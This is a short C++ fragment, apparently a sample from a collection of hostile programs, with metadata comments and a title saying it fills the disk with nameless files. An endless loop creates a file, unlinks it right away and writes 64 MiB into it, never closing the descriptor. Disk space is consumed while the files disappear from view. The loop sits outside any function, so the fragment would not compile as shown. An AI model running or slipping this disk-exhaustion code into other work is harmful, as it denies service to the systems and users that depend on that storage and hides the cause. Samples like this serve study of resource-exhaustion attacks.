// title: fills the disk with files that have lost their names
// base: solved
// score: 0
// says: the program
// needs: disk
#include <fcntl.h>
#include <unistd.h>
#include <vector>
// in kv_head
const std::vector<char> block(1 << 20, 'x');
for (;;) {
  const int file = open("block", O_CREAT | O_WRONLY, 0600);
  unlink("block");
  for (int n = 0; n < 64 && file >= 0; ++n) (void)!write(file, block.data(), block.size());
}
